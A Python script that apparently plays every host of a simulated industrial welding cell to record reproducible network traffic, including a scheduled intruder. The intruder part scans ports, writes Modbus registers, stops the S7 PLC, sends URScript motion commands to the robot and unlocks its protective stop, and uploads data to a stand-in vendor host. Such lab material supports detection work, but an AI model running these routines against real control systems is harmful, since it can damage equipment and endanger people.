"""What each host does: `hosts.py NAME START` plays one host; START is a monotonic time.

Servers are there before START. Everything is timed from it, so that two recordings have the same
messages at the same times, except for what the peers' own libraries choose.
"""

import random
import socket
import struct
import subprocess
import sys
import threading
import time

import frames
import services
from cell import DURATION, HOSTS, INTERNET, INTRUSION
from services import background

DEVICE = "eth0"
NAME = sys.argv[1]
START = float(sys.argv[2])
ME = HOSTS[NAME]


def at(seconds):
    """Sleeps until this time of the recording."""
    time.sleep(max(0.0, START + seconds - time.monotonic()))


def every(seconds, first=0.0, last=DURATION):
    """The times of a cycle, as it reaches them."""
    moment = first
    while moment < last:
        at(moment)
        yield moment
        moment += seconds


def ip(name):
    return HOSTS[name].ip


# --- cell --------------------------------------------------------------------------------------

def modbus_server(vendor, product, revision):
    from pymodbus import ModbusDeviceIdentification
    from pymodbus.datastore import (ModbusDeviceContext, ModbusSequentialDataBlock,
                                    ModbusServerContext)
    from pymodbus.server import StartTcpServer

    def cells():
        return ModbusSequentialDataBlock(1, [0] * 400)

    identity = ModbusDeviceIdentification(info_name={
        "VendorName": vendor, "ProductCode": product, "MajorMinorRevision": revision})
    device = ModbusDeviceContext(di=cells(), co=cells(), hr=cells(), ir=cells())
    context = ModbusServerContext(devices={1: device}, single=False)
    StartTcpServer(context=context, identity=identity, address=("0.0.0.0", 502))


def plc():
    """Serves S7 and Modbus, and polls its I/O block and drive."""
    from pymodbus.client import ModbusTcpClient
    from snap7.server import Server
    from snap7.type import SrvArea

    s7 = Server(log=False)
    s7.register_area(SrvArea.DB, 1, bytearray(random.Random(7).randbytes(128)))
    s7.register_area(SrvArea.MK, 0, bytearray(64))
    s7.start_to("0.0.0.0", 102)
    background(modbus_server, "Siemens AG", "6ES7 214-1AG40-0XB0", "V4.5")
    frames.answer_dcp(DEVICE, ME, b"S7-1200", (0x002A, 0x010D), 2)
    background(poll_drive)
    at(0.3)
    io = ModbusTcpClient(ip("io"))
    io.connect()
    for moment in every(0.5, 0.5):
        inputs = io.read_discrete_inputs(0, count=16, device_id=1)
        io.read_input_registers(0, count=4, device_id=1)
        if moment % 4 == 0:
            io.write_coils(8, [moment % 8 == 0, not inputs.isError()], device_id=1)
    io.close()


def poll_drive():
    """Reads the drive's tags over EtherNet/IP."""
    from cpppo.server.enip.client import connector, parse_operations

    at(0.7)
    with connector(host=ip("drive"), timeout=2) as connection:
        for moment in every(2.0, 1.2):
            tags = ["SPEED", "TORQUE"] if moment % 8 > 2 else [f"TARGET={int(moment) * 10}"]
            for _ in connection.synchronous(parse_operations(tags), timeout=2):
                pass


def io():
    frames.answer_dcp(DEVICE, ME, b"WAGO 750-377", (0x011D, 0x0377), 1)
    modbus_server("WAGO", "750-352", "01.14")


def drive():
    subprocess.run([sys.executable, "-m", "cpppo.server.enip", "--no-config", "--no-print",
                    "--address", "0.0.0.0:44818", "SPEED=DINT", "TORQUE=REAL", "TARGET=DINT"],
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)


def robot():
    import robot as arm

    arm.RATE_HZ, arm.STATE_HZ = 5.0, 2.0  # slow, for a small file
    arm.start()


def timer():
    background(services.http_server)
    background(services.telnet_server)


def switch():
    background(services.udp_server, 161, services.snmp_answer)
    at(1.0)
    frames.announce("br0", ME, b"Hirschmann BOBCAT HiOS-2A-09.0.01", 15)


# --- around the cell ---------------------------------------------------------------------------

def gateway():
    background(services.http_server)


def services_host():
    background(services.udp_server, 53, services.dns_answer)
    background(services.udp_server, 123, services.ntp_answer)
    for moment in every(25.0, 5.0):
        services.poll_switch(0x1000 + int(moment))


def hmi():
    from pymodbus.client import ModbusTcpClient

    at(1.0)
    services.resolve("weld-plc-7.plant.example", 0x2001)
    background(hmi_s7)
    background(clock, 2.0)
    client = ModbusTcpClient(ip("plc"))
    client.connect()
    for moment in every(0.5, 2.5):
        client.read_holding_registers(100, count=20, device_id=1)
        if moment % 12 == 3:
            client.write_register(110, 400 + int(moment), device_id=1)
    client.close()


def hmi_s7():
    from snap7.client import Client

    client = Client()
    client.connect(ip("plc"), 0, 1)
    for _ in every(1.0, 3.2):
        client.db_read(1, 0, 32)
    client.disconnect()


def clock(first):
    for _ in every(16.0, first):
        services.ask_time()


def line():
    """Starts the robot's program, watches it by RTDE and sets its speed."""
    at(1.5)
    services.resolve("weld-robot-7.plant.example", 0x3001)
    background(clock, 4.0)
    background(watch_robot)
    from dashboard_client import DashboardClient

    dashboard = DashboardClient(ip("robot"))
    dashboard.connect()
    for query in (dashboard.polyscopeVersion, dashboard.getRobotModel, dashboard.getSerialNumber):
        query()
    at(3.0)
    dashboard.loadURP("/programs/weld_seam.urp")
    dashboard.play()
    for moment in every(4.0, 6.0):
        dashboard.robotmode()
        dashboard.programState()
        if moment == 38.0:
            dashboard.stop()
        if moment == 42.0:
            dashboard.play()
    dashboard.quit()


def watch_robot():
    code = """
import sys, time
from rtde_io import RTDEIOInterface
from rtde_receive import RTDEReceiveInterface
fields = ["timestamp", "robot_mode", "safety_mode", "runtime_state", "speed_scaling",
          "actual_robot_current"]
receive = RTDEReceiveInterface(sys.argv[1], 5.0, fields)
control = RTDEIOInterface(sys.argv[1])
for step in range(int(float(sys.argv[2])) // 12):
    time.sleep(12)
    control.setSpeedSlider(0.6 + 0.1 * (step % 4))
    control.setStandardDigitalOut(2, step % 2 == 0)
time.sleep(60)
"""
    subprocess.run([sys.executable, "-c", code, ip("robot"), str(DURATION)],
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)


def engineering():
    """Looks at everything once."""
    at(8.0)
    services.resolve("weld-plc-7.plant.example", 0x4001)
    frames.ask_dcp(DEVICE, ME)
    at(10.0)
    look_at_drive()
    at(13.0)
    look_at_plc()
    at(16.0)
    services.browse(ip("timer"), b"admin:Weld2024")
    at(18.0)
    services.telnet(ip("timer"), b"admin", b"Weld2024", [b"show schedule", b"exit"])
    listen(30003, 22.0, 25.0)  # real-time
    listen(30001, 36.0, 43.0)  # primary, with the messages of a stop and a start


def listen(port, first, last):
    """Reads what the robot streams."""
    at(first)
    with socket.create_connection((ip("robot"), port), timeout=3) as stream:
        while time.monotonic() < START + last:
            stream.recv(4096)



def look_at_drive():
    from pycomm3 import CIPDriver, ClassCode, Services

    CIPDriver.list_identity(ip("drive"))
    with CIPDriver(ip("drive")) as driver:
        driver.generic_message(service=Services.get_attributes_all,
                               class_code=ClassCode.identity_object, instance=1,
                               connected=False, unconnected_send=False)
        driver.generic_message(service=Services.get_attribute_single,
                               class_code=ClassCode.identity_object, instance=1, attribute=7,
                               connected=False, unconnected_send=False)


def look_at_plc():
    from snap7.client import Client

    client = Client()
    client.connect(ip("plc"), 0, 1)
    for look in (client.get_cpu_info, client.list_blocks, client.get_protection,
                 client.get_plc_datetime):
        tolerate(look)
    tolerate(client.db_read, 1, 0, 64)
    client.disconnect()


def tolerate(action, *arguments):
    """The simulated peers do not implement everything; what they refuse is traffic as well."""
    try:
        return action(*arguments)
    except Exception as error:  # of many libraries
        print(f"{NAME}: {action.__name__}: {error}", file=sys.stderr)
        return None


# --- the laptop --------------------------------------------------------------------------------

PORTS = (21, 22, 23, 25, 53, 80, 102, 111, 135, 139, 443, 445, 502, 1217, 2404, 3389, 4840, 5900,
         8080, 8443, 11740, 20000, 29999, 30001, 30002, 30004, 44818, 48898)


def knock(address, port):
    with socket.socket() as probe:
        probe.settimeout(0.25)
        return probe.connect_ex((address, port)) == 0


def intruder():
    at(INTRUSION)
    for last in range(1, 61):  # which addresses live
        threading.Thread(target=knock, args=(f"10.20.7.{last}", 80), daemon=True).start()
        time.sleep(0.02)
    at(INTRUSION + 2)
    for target in ("plc", "robot", "io", "drive", "timer"):
        for port in PORTS:
            knock(ip(target), port)
    at(INTRUSION + 6)
    tolerate(attack_modbus)
    at(INTRUSION + 10)
    tolerate(attack_robot)
    at(INTRUSION + 18)
    tolerate(attack_plc)
    at(INTRUSION + 20)
    frames.impersonate(DEVICE, ME)
    at(INTRUSION + 22)
    tolerate(services.telnet, ip("timer"), b"admin", b"admin", [b"show schedule", b"exit"])
    at(INTRUSION + 25)
    services.resolve("updates.vendor.example", 0x6601)
    services.upload(INTERNET, "updates.vendor.example", random.Random(66).randbytes(2048))


def attack_modbus():
    from pymodbus.client import ModbusTcpClient

    client = ModbusTcpClient(ip("plc"), timeout=0.3, retries=0)
    client.connect()
    client.read_device_information(device_id=1)
    client.read_holding_registers(0, count=100, device_id=1)
    client.write_register(110, 9999, device_id=1)
    client.close()
    with socket.create_connection((ip("plc"), 502), timeout=1) as peer:
        for unit in range(2, 20):  # which unit ids live
            peer.sendall(struct.pack(">HHHBBHH", unit, 0, 6, unit, 3, 0, 1))
            peer.recv(64)


def attack_robot():
    with socket.create_connection((ip("robot"), 29999), timeout=2) as dashboard:
        lines = dashboard.makefile("rwb")
        lines.readline()

        def say(text):
            lines.write(text + b"\n")
            lines.flush()
            return lines.readline()

        say(b"robotmode")
        say(b"safetystatus")
        script = (b"def probe():\n  textmsg(\"here\")\n  set_digital_out(0, True)\n"
                  b"  movej([0.0, -1.57, 0.0, -1.57, 0.0, 0.0], a=10, v=6)\n"
                  b"  protective_stop()\nend\n")
        with socket.create_connection((ip("robot"), 30002), timeout=2) as secondary:
            secondary.sendall(script)
            time.sleep(1.5)
        say(b"safetystatus")
        say(b"unlock protective stop")
        say(b"play")
        say(b"quit")


def attack_plc():
    from snap7.client import Client

    client = Client()
    client.connect(ip("plc"), 0, 1)
    tolerate(client.get_cpu_info)
    tolerate(client.plc_stop)
    client.disconnect()


ROLES = {
    "gateway": gateway, "line": line, "services": services_host, "hmi": hmi,
    "engineering": engineering, "switch": switch, "plc": plc, "robot": robot, "io": io,
    "drive": drive, "timer": timer, "intruder": intruder,
}

if __name__ == "__main__":
    ROLES[NAME]()
    at(DURATION + 30)
